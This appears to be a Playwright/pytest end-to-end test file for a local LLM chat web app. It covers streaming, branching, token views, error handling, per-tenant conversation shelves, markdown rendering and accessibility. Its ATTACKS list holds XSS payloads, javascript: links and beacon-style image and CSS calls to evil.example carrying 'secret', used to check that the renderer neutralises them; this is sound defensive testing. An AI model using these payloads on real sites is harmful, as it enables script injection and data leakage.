"""The page in a real Chromium, against a real server with puff."""

from __future__ import annotations

import json
import math
import os
import re
import shutil
import signal
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from bise.api import BUILT_IN
from server.running import Server, until

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install playwright")
CHROMIUM = os.environ.get("CHROMIUM") or shutil.which("chromium") or shutil.which("google-chrome")
if CHROMIUM is None:
    pytest.skip("there is no chromium on the PATH, and CHROMIUM names none", allow_module_level=True)
FLAGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
]  # fmt: skip
Page = Any
TURNS = ".turn.assistant"


@pytest.fixture(scope="module")
def site() -> Iterator[Server]:
    if not BUILT_IN.exists():
        pytest.skip("the built-in model is not here")
    found = Server("--slots", "2", "--queue", "2", "--threads", "1")
    yield found
    found.close()


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture
def visit(chromium: Any, site: Server) -> Iterator[Callable[..., Page]]:
    """visit(path, server=..., **context) -> a page. In the end: nothing was asked of anybody but the server, and the
    browser had nothing to complain about (a violation of the policy would be an error on the console)."""
    contexts, complaints, strangers = [], [], []

    def begin(path: str = "/", server: Server = site, **options: Any) -> Page:
        context = (
            chromium.new_context(viewport={"width": 1100, "height": 800}, **options)
            if "viewport" not in options
            else chromium.new_context(**options)
        )
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(15_000)
        page.on("console", lambda m: complaints.append(m.text) if m.type in ("error", "warning") else None)
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on("request", lambda r: None if r.url.startswith((server.url + "/", "blob:")) else strangers.append(r.url))
        page.goto(server.url + path)
        page.expect_complaints = lambda: complaints.clear()
        return page

    yield begin
    for context in contexts:
        context.close()
    assert strangers == []
    assert complaints == []


def ready(page: Page) -> None:
    page.locator("#send:not([disabled])").wait_for()


def say(page: Page, text: str) -> None:
    ready(page)
    page.fill("#composer-text", text)
    page.press("#composer-text", "Enter")


def answered(page: Page, count: int = 1) -> str:
    """Wait for the answer under the last message; its text."""
    page.locator(TURNS).nth(count - 1).wait_for()
    page.wait_for_function("() => document.querySelector('#send').textContent === 'Send'")
    saved(page)
    return page.locator(f"{TURNS} .words").nth(count - 1).inner_text()


def saved(page: Page) -> None:
    """Wait until nothing is on its way to the server any more."""
    until(lambda: page.evaluate("async () => !(await import('/page/library.js')).saving()"))


def api(server: Server, path: str, body: Any = None, method: str | None = None) -> Any:
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(server.url + path, data, {"Content-Type": "application/json"}, method=method)
    with urllib.request.urlopen(request, timeout=10) as answer:
        return json.loads(answer.read() or b"null")


def kept(page: Page, server: Server) -> dict[str, Any]:
    saved(page)
    return api(server, "/api/conversations/" + page.url.rpartition("#")[2])


def keep(server: Server, *said: str, **more: Any) -> str:
    """A conversation that is there already; its id."""
    messages = [
        {
            "id": f"m{i}",
            "parent": f"m{i - 1}" if i else None,
            "role": ("user", "assistant")[i % 2],
            "content": text,
            "finish": "stop" if i % 2 else "",
        }
        for i, text in enumerate(said)
    ]
    return api(server, "/api/conversations", {"title": said[0][:60], "messages": messages, **more})["id"]


# --- chat


def test_a_chat_streams_is_kept_and_comes_back(visit: Callable[..., Page], site: Server) -> None:
    page = visit()
    page.get_by_text("Everything stays on this machine.").wait_for()
    say(page, "Tell me a story about a red boat.")
    first = answered(page)
    assert len(first.split()) > 20
    say(page, "Tell me a story about a dog named Tim.")
    second = answered(page, 2)
    page.locator(".context .figures").get_by_text("tokens/s").wait_for()
    file = kept(page, site)
    assert [m["role"] for m in file["messages"]] == ["user", "assistant"] * 2
    assert file["title"] == "Tell me a story about a red boat."
    answer = file["messages"][3]
    assert (
        answer["finish"] == "stop"
        and answer["usage"]["reused"] > 0
        and answer["usage"]["completion"] == len(answer["tokens"])
    )
    assert "".join(text for text, _, _ in answer["tokens"]) == answer["content"]
    page.reload()
    page.locator(TURNS).nth(1).wait_for()
    assert [page.locator(f"{TURNS} .words").nth(i).inner_text() for i in (0, 1)] == [first, second]
    assert page.locator("#shelf .item.here .name").inner_text() == "Tell me a story about a red boat."


def test_edit_regenerate_and_branches(visit: Callable[..., Page], site: Server) -> None:
    page = visit()
    say(page, "Tell me a story about a cat.")
    first = answered(page)
    page.get_by_role("button", name="Regenerate").click()
    page.get_by_role("group", name="Branch 2 of 2").wait_for()
    second = answered(page)
    page.get_by_role("button", name="Previous branch").click()
    assert page.locator(f"{TURNS} .words").inner_text() == first
    page.locator(".turn.user").hover()
    page.get_by_role("button", name="Edit").click()
    page.locator("textarea.edit").fill("Tell me a story about a bird.")
    page.get_by_role("button", name="Send as a new branch").click()
    page.locator(".turn.user").get_by_role("group", name="Branch 2 of 2").wait_for()
    answered(page)
    page.locator(".turn.user").get_by_role("button", name="Previous branch").click()
    page.locator(TURNS).get_by_role("group", name="Branch 2 of 2").wait_for()
    assert page.locator(f"{TURNS} .words").inner_text() == second, "the youngest branch below is read"
    file = kept(page, site)
    assert [m["content"] for m in file["messages"] if m["role"] == "user"] == [
        "Tell me a story about a cat.",
        "Tell me a story about a bird.",
    ]
    assert len(file["messages"]) == 5


def wild(page: Page) -> None:
    """At temperature 2 puff does not end by itself before the context does: there is time to act."""
    page.click("#settings-toggle")
    page.locator("input[name=temperature]").fill("2")
    page.locator("input[name=min_p]").fill("0")
    page.keyboard.press("Escape")


def test_stop_frees_the_slot_and_continue_goes_on(visit: Callable[..., Page], site: Server) -> None:
    page = visit()
    ready(page)
    wild(page)
    (worker,) = site.children()
    say(page, "Tell me a story about a long river.")
    page.locator(".speaking").wait_for()
    os.kill(worker, signal.SIGSTOP)  # so that the answer cannot end before it is stopped
    try:
        assert page.locator("#send").inner_text() == "Stop"
        page.keyboard.press("Escape")
        page.get_by_text("Stopped.").wait_for()
    finally:
        os.kill(worker, signal.SIGCONT)
    until(lambda: re.search(r"^bise_slots_in_use 0", metrics(site), re.M))
    half = answered(page)
    assert kept(page, site)["messages"][1]["finish"] == "stopped"
    page.locator(TURNS).get_by_role("button", name="Continue").click()
    page.wait_for_function("n => document.querySelector('.turn.assistant .words').innerText.length > n", arg=len(half))
    page.keyboard.press("Escape")
    assert answered(page)[: len(half) - 1] == half[:-1]
    assert len(kept(page, site)["messages"]) == 2, "it went on in its place"


def metrics(server: Server) -> str:
    with urllib.request.urlopen(server.url + "/metrics", timeout=10) as answer:
        return str(answer.read().decode())


# --- tokens


def test_tokens_alternatives_and_a_fork(visit: Callable[..., Page], site: Server) -> None:
    page = visit()
    say(page, "Tell me a story about a green frog.")
    answered(page)
    page.click("#tokens-toggle")
    page.get_by_text("How likely each token was").wait_for()
    tokens = page.locator(".strip .token")
    answer = kept(page, site)["messages"][1]
    assert tokens.count() == len(answer["tokens"])
    doubts = page.evaluate(
        "() => [...document.querySelectorAll('.strip .token')].map(t => +t.style.getPropertyValue('--doubt'))"
    )
    assert doubts == pytest.approx([1 - math.exp(t[1]) for t in answer["tokens"]], abs=2e-3)
    at = next(
        i
        for i, (text, _, others) in enumerate(answer["tokens"])
        if i > 4 and others[0][0] == text and others[1][0].strip()
    )
    tokens.nth(at).click()
    popover = page.locator(".alternatives")
    popover.wait_for()
    assert popover.locator(".choice").count() == 8
    assert popover.locator(".choice.chosen .piece").inner_text().replace("␣", " ") == answer["tokens"][at][0]
    chosen = answer["tokens"][at][2][1][0]
    popover.locator(".choice").nth(1).click()
    page.get_by_role("group", name="Branch 2 of 2").wait_for()
    answered(page)
    fork = kept(page, site)["messages"][2]
    before = "".join(text for text, _, _ in answer["tokens"][:at])
    assert fork["content"].startswith(before + chosen) and len(fork["content"]) > len(before + chosen)
    assert fork["parent"] == "".join(answer["parent"]) and fork["tokens"][at][0] == chosen
    assert "".join(text for text, _, _ in fork["tokens"]) == fork["content"]
    assert fork["usage"]["prompt"] == pytest.approx(answer["usage"]["prompt"], abs=3), (
        "the fork's beginning counts as answer"
    )


def test_the_context_bar_tells_what_is_where(visit: Callable[..., Page], site: Server) -> None:
    usage = {"prompt": 300, "completion": 100, "reused": 250, "first": 0.4, "rate": 12.5}
    old = {"prompt": 100, "completion": 150}
    messages = [
        {"id": "a", "parent": None, "role": "user", "content": "1"}, {"id": "b", "parent": "a", "role": "assistant", "content": "2", "usage": old},
        {"id": "c", "parent": "b", "role": "user", "content": "3"}, {"id": "d", "parent": "c", "role": "assistant", "content": "4", "usage": usage},
    ]  # fmt: skip
    id = api(site, "/api/conversations", {"messages": messages, "settings": {"system": "Be brief and kind."}})["id"]
    page = visit(f"/#{id}")
    page.locator(".context .part.answer").wait_for()
    labels = [part.get_attribute("aria-label") for part in page.locator(".context .part").all()]
    system = int(re.match(r"System prompt: (\d+) tokens, 1 to", labels[0])[1])
    assert 3 < system < 20
    assert labels[1:] == [
        f"History: {250 - system} tokens, {system + 1} to 250; rolled out of the window",
        "Your message: 50 tokens, 251 to 300; 22 of them rolled out of the window",  # puff sees 128: 273 to 400
        "The answer: 100 tokens, 301 to 400", "Room left: 624 tokens",
    ]  # fmt: skip
    page.locator(".part.answer").focus()
    assert page.locator(".context .caption").inner_text() == "The answer: 100 tokens, 301 to 400"
    assert page.locator(".context .figures").inner_text() == "13 tokens/s · first after 0.4 s · 250 reused"
    bar, gone = (page.locator(s).bounding_box() for s in (".context .bar", ".mark.gone"))
    assert gone["width"] / bar["width"] == pytest.approx(272 / 1024, abs=0.005)


# --- what goes wrong


def test_busy_is_waited_for(visit: Callable[..., Page], site: Server) -> None:
    page = visit()
    refused: list[int] = []

    def refuse(route: Any) -> None:
        if len(refused) >= 2:
            return route.continue_()
        refused.append(1)
        body = {
            "error": {
                "message": "2 requests are running and 2 wait, as many as may",
                "type": "x",
                "param": None,
                "code": None,
            }
        }
        route.fulfill(status=429 if len(refused) == 1 else 503, headers={"Retry-After": "1"}, json=body)

    page.route("**/v1/chat/completions", refuse)
    say(page, "Tell me a story about patience.")
    page.get_by_text("The server is busy. Asking again in 1 s.").wait_for()
    assert len(answered(page)) > 20 and len(refused) == 2
    page.expect_complaints()  # the browser reports each refusal on its console


def test_a_lost_connection_keeps_what_was_said(visit: Callable[..., Page], site: Server) -> None:
    page = visit()
    events = [
        {"choices": [], "progress": {"read": 5, "total": 9, "reused": 0}},
        {"choices": [{"delta": {"content": "It began"}}]},
    ]
    body = "".join(f"data: {json.dumps(e)}\n\n" for e in events)
    page.route("**/v1/chat/completions", lambda route: route.fulfill(body=body, content_type="text/event-stream"))
    say(page, "Tell me a story about a storm.")
    page.get_by_role("alert").get_by_text("The connection was cut off.").wait_for()
    assert answered(page) == "It began"
    page.unroute("**/v1/chat/completions")
    page.route("**/v1/chat/completions", lambda route: route.abort())
    page.get_by_role("button", name="Continue").click()
    page.get_by_role("alert").get_by_text("The server cannot be reached.").wait_for()
    page.unroute("**/v1/chat/completions")
    page.get_by_role("button", name="Continue").click()
    page.wait_for_function("() => document.querySelector('.turn.assistant .words').innerText.length > 20")
    assert answered(page).startswith("It began")
    page.expect_complaints()


def test_an_error_in_the_stream_is_told(visit: Callable[..., Page], site: Server) -> None:
    page = visit()
    body = 'data: {"error": {"message": "the engine\'s process ended", "code": "internal_error"}}\n\n'
    page.route("**/v1/chat/completions", lambda route: route.fulfill(body=body, content_type="text/event-stream"))
    say(page, "Tell me a story.")
    page.get_by_role("alert").get_by_text("The engine's process ended.").wait_for()
    page.unroute("**/v1/chat/completions")
    page.get_by_role("button", name="Try again").click()
    page.wait_for_function("() => document.querySelector('.turn.assistant .words').innerText.length > 20")
    assert len(kept(page, site)["messages"]) == 2


def test_a_prompt_that_does_not_fit_is_told(visit: Callable[..., Page], site: Server) -> None:
    page = visit()
    say(page, "word " * 1200)
    page.get_by_role("alert").get_by_text("the context holds 1,024").wait_for()
    page.expect_complaints()


def test_a_model_that_loads_is_waited_for(visit: Callable[..., Page], site: Server) -> None:
    page = visit("/page/icon.svg")
    states = ["loading", "loading", "down"]
    page.route(
        "**/health",
        lambda route: route.fulfill(status=503, json={"status": states.pop(0)}) if states else route.continue_(),
    )
    page.goto(site.url)
    page.get_by_placeholder("The model is loading").wait_for()
    assert page.locator("#send").is_disabled()
    page.get_by_placeholder("The engine is starting again").wait_for()
    ready(page)
    assert page.locator("#composer-text").get_attribute("placeholder") == "Say something"
    page.expect_complaints()


def test_reading_shows_how_far_it_is(visit: Callable[..., Page]) -> None:
    page = visit()
    shown = page.evaluate("""async () => {
      const { happening } = await import('/page/message.js');
      const [box] = happening({ finish: '' }, { state: 'reading', progress: { read: 1536, total: 12000, reused: 512 } });
      return [box.textContent, box.querySelector('progress').value, box.querySelector('progress').max];
    }""")
    assert shown == ["Reading: 1,536 of 12,000 tokens, 512 of them known from before", 1536, 12000]


# --- conversations


def test_search_rename_delete_undo_export_import(visit: Callable[..., Page], site: Server, tmp_path: Path) -> None:
    id = keep(site, "Where does the mistral blow?", "Down the Rhône, and it is a <b>cold</b> wind called zephyrette.")
    page = visit(f"/#{id}")
    page.locator(TURNS).wait_for()
    page.fill("#search", "ZEPHYRETTE")
    page.locator("#shelf-list h2").get_by_text("Found").wait_for()
    assert page.locator(".item").count() == 1
    assert (
        page.locator(".item .snippet").inner_text() == "Down the Rhône, and it is a <b>cold</b> wind called zephyrette."
    )
    assert page.locator(".item mark").inner_text() == "zephyrette"
    page.fill("#search", "")
    page.locator(".item.here").get_by_role("button", name="Rename").click()
    page.keyboard.type("Winds of France")
    page.keyboard.press("Enter")
    page.locator("#title").get_by_text("Winds of France").wait_for()
    with page.expect_download() as download:
        page.locator(".item.here").get_by_role("button", name="Export").click()
    path = tmp_path / "file.json"
    download.value.save_as(path)
    assert download.value.suggested_filename == "Winds-of-France.json"
    page.locator(".item.here").get_by_role("button", name="Delete").click()
    page.get_by_text("Deleted.").wait_for()
    page.get_by_role("button", name="Undo").click()
    page.locator("#title").get_by_text("Winds of France").wait_for()
    assert page.url.rpartition("#")[2] != id
    before = len(api(site, "/api/conversations")["conversations"])
    page.locator("#import-file").set_input_files(path)
    page.get_by_text("Imported 1 conversation.").wait_for()
    assert len(api(site, "/api/conversations")["conversations"]) == before + 1
    (tmp_path / "bad.json").write_text(
        '{"format": "bise-conversations", "conversations": [{"messages": [{"id": "../x"}]}]}'
    )
    page.locator("#import-file").set_input_files(tmp_path / "bad.json")
    page.locator("#notice").get_by_text("messages").wait_for()
    page.expect_complaints()  # a 400 on the console


def test_two_tabs_keep_both(visit: Callable[..., Page], site: Server) -> None:
    id = keep(site, "A question", "An answer")
    one, two = visit(f"/#{id}"), visit(f"/#{id}")
    for page in (one, two):
        page.locator(TURNS).wait_for()
    say(one, "From the first tab")
    answered(one, 2)
    say(two, "From the second tab")
    answered(two, 2)
    two.get_by_text("Another tab had saved this conversation: both are kept.").wait_for()
    said = {m["content"]: m for m in kept(two, site)["messages"]}
    assert said["From the first tab"]["parent"] == said["From the second tab"]["parent"] == "m1"
    assert len(said) == 6
    two.expect_complaints()  # the 409 on the console


def test_a_tenant_has_a_shelf_of_its_own(
    visit: Callable[..., Page], start: Callable[..., Server], tmp_path: Path
) -> None:
    keys = tmp_path / "keys"
    keys.write_text("anna-anna-anna-anna\nben-ben-ben-ben-ben\n")
    keys.chmod(0o600)
    server = start("--key-file", str(keys))
    anna = visit(server=server)
    anna.fill("input[name=key]", "anna-anna-anna-anna")
    anna.keyboard.press("Enter")
    say(anna, "Tell me a secret story.")
    answered(anna)
    ben = visit(server=server)
    ben.fill("input[name=key]", "ben-ben-ben-ben-ben")
    ben.keyboard.press("Enter")
    ben.get_by_text("No conversations yet.").wait_for()
    ben.goto(anna.url)
    ben.reload()
    ben.get_by_text("there is no conversation").wait_for()
    ben.expect_complaints()  # the form's 401 and this 404 on the console


def test_an_answer_goes_on_while_another_conversation_is_read(visit: Callable[..., Page], site: Server) -> None:
    other = keep(site, "Something else", "Said before")
    page = visit()
    ready(page)
    wild(page)
    (worker,) = site.children()
    say(page, "Tell me a story that takes its time.")
    page.locator(".speaking").wait_for()
    os.kill(worker, signal.SIGSTOP)
    try:
        page.wait_for_function("() => location.hash")
        spoken = page.url
        page.evaluate("id => { location.hash = id; }", other)
        page.get_by_text("Said before").wait_for()
        assert page.locator("#send").inner_text() == "Send"
    finally:
        os.kill(worker, signal.SIGCONT)
    page.goto(spoken)
    assert answered(page)
    message = kept(page, site)["messages"][1]
    assert message["finish"] in ("length", "stop") and len(message["tokens"]) == message["usage"]["completion"]


def test_what_is_being_typed_stays(visit: Callable[..., Page], site: Server) -> None:
    """A system prompt, while an answer ends."""
    page = visit()
    ready(page)
    page.fill("#composer-text", "Tell me a story about rain.")
    page.click("#settings-toggle")
    (worker,) = site.children()
    os.kill(worker, signal.SIGSTOP)
    try:
        page.evaluate("document.querySelector('#composer').requestSubmit()")
        page.locator("#settings textarea").focus()
        page.keyboard.type("Be brief.")
    finally:
        os.kill(worker, signal.SIGCONT)
    answered(page)
    assert page.locator("#settings textarea").input_value() == "Be brief."
    page.locator("input[name=temperature]").focus()
    assert kept(page, site)["settings"]["system"] == "Be brief."


# --- strangers' words

ATTACKS = [
    "<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>", "<svg onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "[click](javascript:alert(1))", "[click](JaVaScRiPt:alert(1))", "[click](java\nscript:alert(1))", "[click](&#106;avascript:alert(1))",
    "[click](\x01javascript:alert(1))", "[click](data:text/html,<script>alert(1)</script>)", "[click](vbscript:x)", "[click](//evil.example/x)",
    "[click](file:///etc/passwd)", "[click](<javascript:alert(1)>)", "<javascript:alert(1)>", "[a](blob:x)", "[a](/api/conversations)",
    "![pixel](https://evil.example/pixel.png?q=secret)", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "[![x](https://evil.example/a)](https://evil.example/b)",
    "<style>*{background:url(https://evil.example/css)}</style>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<a href=https://evil.example ping=https://evil.example/ping>x</a>", "<base href=https://evil.example>", "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "```html\n<script>alert(1)</script>\n```", "```<script>alert(1)</script>\ncode\n```", "```\"onmouseover=alert(1)\ncode", "`<script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | b |\n|--|--|\n| [x](javascript:alert(1)) | <b onclick=alert(1)>y</b> |", "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))", "https://evil.example/\"onmouseover=alert(1)//",
    "[x](https://good.example/\" onclick=\"alert(1))", "[x](https://a.example 'title\" onload=alert(1)')", "&lt;script&gt;alert(1)&lt;/script&gt;", "{{7*7}} ${alert(1)}",
]  # fmt: skip
FINE = {
    "P", "BR", "EM", "STRONG", "S", "CODE", "A", "H2", "H3", "H4", "H5", "H6", "HR", "UL", "OL", "LI", "BLOCKQUOTE", "PRE", "SPAN", "FIGURE", "FIGCAPTION",
    "BUTTON", "DIV", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD",
}  # fmt: skip
RENDER = """async ([text, live]) => {
  const { render, Live } = await import('/page/markdown.js');
  const box = document.createElement('div');
  document.body.append(box);
  if (live) { const it = new Live(box); for (let n = 1; n <= text.length; n += 1) it.show(text.slice(0, n)); }
  else box.append(...render(text));
  await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
  const all = [...box.querySelectorAll('*')];
  const found = {
    text: box.textContent, html: box.innerHTML, tags: [...new Set(all.map((e) => e.tagName))],
    attributes: [...new Set(all.flatMap((e) => e.getAttributeNames()))],
    links: all.filter((e) => e.tagName === 'A').map((e) => [e.protocol, e.rel, e.target]),
  };
  box.remove();
  return found;
}"""


@pytest.mark.parametrize("live", [False, True], ids=["whole", "streamed"])
def test_strangers_words_are_words(visit: Callable[..., Page], live: bool) -> None:
    page = visit()
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    for attack in [*ATTACKS, "\n\n".join(ATTACKS)]:
        found = page.evaluate(RENDER, [attack, live])
        assert set(found["tags"]) <= FINE, (attack, found["html"])
        assert set(found["attributes"]) <= {
            "href",
            "title",
            "target",
            "rel",
            "class",
            "tabindex",
            "role",
            "aria-label",
            "type",
            "data-copy",
            "start",
        }, attack
        assert all(
            p in ("http:", "https:") and "noopener" in rel and "noreferrer" in rel and t == "_blank"
            for p, rel, t in found["links"]
        ), attack
        if "<" in attack and "://" not in attack and "```" not in attack and "(<" not in attack:
            assert "<" in found["text"], f"{attack} lost its brackets: {found['text']}"


def test_a_strangers_answer_in_the_chat(visit: Callable[..., Page], site: Server) -> None:
    """The same through the store and the whole page: title, search, messages, tokens."""
    bad = "\n\n".join(ATTACKS)
    tokens = [[piece, -0.5, [[piece, -0.5], ["<b>", -1]]] for piece in ATTACKS]
    messages = [
        {"id": "a", "parent": None, "role": "user", "content": bad},
        {"id": "b", "parent": "a", "role": "assistant", "content": bad, "tokens": tokens},
    ]
    id = api(site, "/api/conversations", {"title": "<img src=x onerror=alert(1)>", "messages": messages})["id"]
    page = visit(f"/#{id}")
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    page.locator(TURNS).wait_for()
    assert page.locator("#title").inner_text() == "<img src=x onerror=alert(1)>"
    page.fill("#search", "<img")
    page.locator(".item mark").first.wait_for()
    page.click("#tokens-toggle")
    page.locator(".strip .token").nth(3).click()
    page.locator(".alternatives").wait_for()
    assert page.locator("main img, main script, main iframe, .alternatives b").count() == 0


SAMPLE = Path(__file__).with_name("markdown.md")
SHAPES = {
    "a *b* **c** ***d*** ~~e~~ `f` \\*g\\*": "<p>a <em>b</em> <strong>c</strong> <em><strong>d</strong></em> <s>e</s> <code>f</code> *g*</p>",
    "snake_case_name 2 * 3 * 4 a*b*c": "<p>snake_case_name 2 * 3 * 4 a<em>b</em>c</p>",
    "**bold *both* bold** and *open": "<p><strong>bold <em>both</em> bold</strong> and *open</p>",
    "``a ` b`` and ` open": "<p><code>a ` b</code> and ` open</p>",
    "one\ntwo\n\nthree": "<p>one<br>two</p><p>three</p>",
    "# a\n## b #\n####### c": "<h2>a</h2><h3>b</h3><p>####### c</p>",
    "- a\n- b\n  - c\n\n1. d\n2) e": "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul><ol><li>d</li></ol><ol start=\"2\"><li>e</li></ol>",
    "3. x\n4. y": '<ol start="3"><li>x</li><li>y</li></ol>',
    "> a\n> - b": "<blockquote><p>a</p><ul><li>b</li></ul></blockquote>",
    "a\n- b": "<p>a</p><ul><li>b</li></ul>",
    "in 1999. nothing\n1984. A year": "<p>in 1999. nothing<br>1984. A year</p>",
    "---\n***": "<hr><hr>",
    "[a *b*](https://x.example/p_(q)_r 't') !": '<p><a href="https://x.example/p_(q)_r" title="https://x.example/p_(q)_r" target="_blank" rel="noopener noreferrer nofollow">a <em>b</em></a> !</p>',
    "[not a link] and [x] (y)": "<p>[not a link] and [x] (y)</p>",
}  # fmt: skip


def test_markdown_shapes(visit: Callable[..., Page]) -> None:
    page = visit()
    for text, html in SHAPES.items():
        assert page.evaluate(RENDER, [text, False])["html"] == html


def test_a_streamed_text_becomes_what_it_is_at_once(visit: Callable[..., Page]) -> None:
    page, text = visit(), SAMPLE.read_text()
    whole, streamed = (page.evaluate(RENDER, [text, live]) for live in (False, True))
    assert streamed["html"] == whole["html"]
    assert {"TABLE", "FIGURE", "UL", "OL", "BLOCKQUOTE", "HR", "H2"} <= set(whole["tags"])


def test_blocks_that_are_done_are_not_drawn_again(visit: Callable[..., Page]) -> None:
    page = visit()
    stayed = page.evaluate("""async () => {
      const { Live } = await import('/page/markdown.js');
      const box = document.createElement('div');
      const live = new Live(box);
      live.show('first\\n\\nsecond');
      const [first, second] = box.children;
      live.show('first\\n\\nsecond goes on\\n\\nthird');
      return [box.children[0] === first, box.children[1] === second, box.children.length];
    }""")
    assert stayed == [True, False, 3]


PIECES = ["*a ", "**", "[", "[a](", "`", "``a` ", "> ", "- ", "  - a\n", "~", "_a_", "|a", "|a|\n|-|\n", "<", "![", "https://", "(", "1. ", "#", "\\", "a\n> b\n", "*a_b~c[d"]  # fmt: skip


def test_no_text_takes_long(visit: Callable[..., Page]) -> None:
    """60,000 characters of anything are drawn within a second or so, not within the square of it."""
    page = visit()
    took = page.evaluate(
        """async (pieces) => {
      const { render } = await import('/page/markdown.js');
      return pieces.map((piece) => {
        const text = piece.repeat(60000 / piece.length), began = performance.now();
        render(text);
        return [piece, performance.now() - began];
      });
    }""",
        PIECES,
    )
    assert [(piece, ms) for piece, ms in took if ms > 2000] == []


def test_code_is_coloured_without_changing_it(visit: Callable[..., Page]) -> None:
    page = visit()
    samples = {
        "python": "# no\ndef f(x):\n    '''doc'''\n    return \"a\\\"b\" + 0x1F # if\n", "js": "const a = `x ${1}`; // let\n/* a */ let r = 'it'",
        "sql": "SELECT a FROM b -- where\nWHERE c = 'x'", "nosuch": "if 1", "rust": "fn main() { let c = 'x'; }", "json": '{"a": [1, true]}',
    }  # fmt: skip
    for name, code in samples.items():
        text, kinds = page.evaluate(
            """async ([code, name]) => {
          const { colour } = await import('/page/code.js');
          const box = document.createElement('pre');
          box.append(...colour(code, name));
          return [box.textContent, [...box.querySelectorAll('span')].map((s) => [s.className, s.textContent])];
        }""",
            [code, name],
        )
        assert text == code
        if name == "python":
            assert (
                ["comment", "# no"] in kinds
                and ["keyword", "def"] in kinds
                and ["number", "0x1F"] in kinds
                and ["string", '"a\\"b"'] in kinds
            )
            assert ["keyword", "if"] not in kinds


# --- hands and eyes


def test_the_keyboard_alone_is_enough(visit: Callable[..., Page], site: Server) -> None:
    page = visit()
    ready(page)
    press = page.keyboard.press
    page.keyboard.type("Tell me a story about a key.")
    press("Enter")
    answered(page)
    press("ArrowUp")  # edit the last message
    page.locator("textarea.edit").wait_for()
    press("Control+a")
    page.keyboard.type("Tell me a story about a lock.")
    press("Enter")
    page.locator(".turn.user").get_by_role("group", name="Branch 2 of 2").wait_for()
    answered(page)
    page.locator(".turn.user").focus()
    press("[")
    page.locator(".turn.user").get_by_role("group", name="Branch 1 of 2").wait_for()
    press("j")
    assert page.evaluate("document.activeElement.classList.contains('assistant')")
    press("r")
    page.locator(TURNS).get_by_role("group", name="Branch 2 of 2").wait_for()
    answered(page)
    press("t")
    page.locator(".strip .token").first.focus()
    for _ in range(6):
        press("ArrowRight")
    press("Enter")
    page.locator(".alternatives .choice:focus").wait_for()
    press("Escape")
    page.locator(".strip .token:focus").wait_for()
    assert page.locator(".alternatives").count() == 0
    press("Enter")
    page.locator(".alternatives .choice:focus").wait_for()
    press("ArrowDown")
    press("Enter")
    page.locator(TURNS).get_by_role("group", name="Branch 3 of 3").wait_for()
    answered(page)
    page.locator(TURNS).focus()
    press("?")
    page.get_by_role("heading", name="While reading").wait_for()
    press("Escape")
    press("Control+.")
    page.wait_for_function("() => document.activeElement.closest('#settings')")
    press("Escape")
    press("Control+k")
    page.wait_for_function("() => document.activeElement.id === 'search'")
    page.keyboard.type("story about a lock")
    page.locator(".item mark").first.wait_for()
    press("ArrowDown")
    page.wait_for_function("() => document.activeElement.closest('.item')")
    press("Control+Shift+o")
    page.wait_for_function("() => document.activeElement.id === 'composer-text' && !location.hash")
    assert page.locator(".turn").count() == 0


def test_everything_has_a_name_and_shows_its_focus(visit: Callable[..., Page], site: Server) -> None:
    page = visit(f"/#{keep(site, 'A question', SAMPLE.read_text())}")
    page.locator(TURNS).wait_for()
    nameless = page.evaluate("""() => [...document.querySelectorAll('button, input, textarea, a, [tabindex="0"]')]
      .filter((e) => !e.hidden && e.type !== 'file' && !(e.textContent.trim() || e.ariaLabel || e.placeholder || e.closest('label')))
      .map((e) => e.outerHTML)""")
    assert nameless == []
    seen = set()
    for _ in range(40):
        page.keyboard.press("Tab")
        seen.add(
            page.evaluate("""() => {
          const e = document.activeElement, s = getComputedStyle(e), form = e.closest('.composer, #shelf');
          const shown = s.outlineStyle !== 'none' || (form && getComputedStyle(e).borderBottomColor) || e.classList.contains('turn');
          return (shown ? '' : 'unseen ') + e.tagName;
        }""")
        )
    assert not [each for each in seen if each.startswith("unseen") and "BODY" not in each]


LUMINANCE = """(picks) => {
  const c = document.createElement('canvas').getContext('2d', { willReadFrequently: true });
  const weigh = (v) => (v <= 10 ? v / 255 / 12.92 : ((v / 255 + 0.055) / 1.055) ** 2.4);
  return picks.map(([selector, name, over]) => {
    const style = (s, n) => getComputedStyle(document.querySelector(s))[n];
    c.fillStyle = style('body', 'backgroundColor');
    c.fillRect(0, 0, 1, 1);
    if (over) { c.fillStyle = style(over, 'backgroundColor'); c.fillRect(0, 0, 1, 1); }
    c.fillStyle = style(selector, name);
    c.fillRect(0, 0, 1, 1);
    const [r, g, b] = [...c.getImageData(0, 0, 1, 1).data].map(weigh);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  });
}"""


def contrast(page: Page, *picks: tuple[str, ...]) -> float:
    """Of two colours, each (selector, property, what it is drawn over): WCAG 2.2, relative luminance."""
    light, dark = sorted(page.evaluate(LUMINANCE, [list(pick) for pick in picks]), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def lightness(page: Page) -> tuple[float, float]:
    """Of paper and ink, 0 to 1."""
    paper, ink = page.evaluate(LUMINANCE, [["body", "backgroundColor"], ["body", "color"]])
    return paper, ink


def test_every_colour_can_be_read(visit: Callable[..., Page], site: Server) -> None:
    """WCAG AA: 4.5 to 1 for text, 3 to 1 for what is drawn; and the scale of the tokens is even, lightness alone."""
